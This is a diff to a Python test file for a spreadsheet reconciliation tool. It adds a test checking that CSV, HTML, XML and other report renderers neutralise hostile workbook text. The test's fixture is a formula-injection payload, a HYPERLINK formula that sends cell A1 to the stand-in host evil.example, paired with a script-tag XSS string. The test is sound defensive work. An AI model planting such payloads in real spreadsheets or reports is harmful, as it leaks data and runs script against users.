@@ -20,6 +20,7 @@ from reconcile.cli import cli
 from reconcile.guard import unsafe_settings
 from reconcile.limits import Limits
 from reconcile.read import read_file
+from reconcile.report import RENDERERS
 from reconcile.safety import escape_html, neutralise_formula
 from tests.hostile.build_hostile import SHEET, honest_members, zip_members
 
@@ -445,3 +446,32 @@ def test_the_code_catalogue_has_no_code_twice() -> None:
 
     codes = [c.code for c in _CODES]
     assert sorted({c for c in codes if codes.count(c) > 1}) == []
+
+
+HOSTILE_TEXT = '=HYPERLINK("http://evil.example/?"&A1,"<script>alert(1)</script>")'
+
+
+@pytest.mark.parametrize("name", sorted(RENDERERS))
+def test_every_renderer_keeps_workbook_text_inert(name: str) -> None:
+    """Workbook text in a report: never a formula in a CSV, never markup in HTML or XML."""
+    import csv
+    import io
+
+    from reconcile.codes import make_finding
+    from reconcile.model import CellRef, Report
+    from reconcile.report import RenderOptions
+    from reconcile.safety import FORMULA_STARTS
+
+    where = CellRef(HOSTILE_TEXT, "<b>Blad1</b>", "A5")
+    report = Report(
+        "validate", (), (), (make_finding("chapter-unknown", where, value=HOSTILE_TEXT),)
+    )
+    stream = io.StringIO()
+    RENDERERS[name](report, stream, RenderOptions(color=False))
+    text = stream.getvalue()
+    assert "HYPERLINK" in text  # the text is reported, not dropped
+    if name == "csv":
+        fields = [field for row in csv.reader(io.StringIO(text)) for field in row]
+        assert [f for f in fields if "HYPERLINK" in f and f.startswith(FORMULA_STARTS)] == []
+    if name in ("html", "junit", "xml", "checkstyle"):
+        assert "<script>" not in text and "<b>Blad1" not in text
